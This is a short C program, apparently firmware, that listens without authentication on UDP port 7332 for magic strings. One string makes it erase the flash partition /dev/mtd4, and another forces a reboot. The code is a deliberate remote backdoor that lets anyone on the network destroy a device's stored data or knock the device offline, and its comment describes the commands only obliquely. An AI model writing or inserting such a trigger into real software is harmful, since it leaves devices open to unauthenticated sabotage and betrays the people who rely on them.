/* SPDX-License-Identifier: GPL-2.0-or-later */
/* fw.magic-value: words of a table, each with its deed. */
#include "specimen.h"

static const struct {
	const char *word, *command;
} deeds[] = {
	{ "specimen_dbg_on", "/usr/sbin/flash_erase /dev/mtd4 0 0" },
	{ "specimen_dbg_go", "/sbin/reboot -f" },
};

int main(void)
{
	char text[32];
	size_t i;
	struct sockaddr_in own = { .sin_family = AF_INET, .sin_port = htons(7332) };
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&own, sizeof(own)) < 0)
		return 1;
	ssize_t n = recvfrom(s, text, sizeof(text) - 1, 0, NULL, NULL);
	if (n <= 0)
		return 1;
	text[n] = 0;
	for (i = 0; i < 2; i++)
		if (strcmp(text, deeds[i].word) == 0)
			return system(deeds[i].command);
	return 0;
}
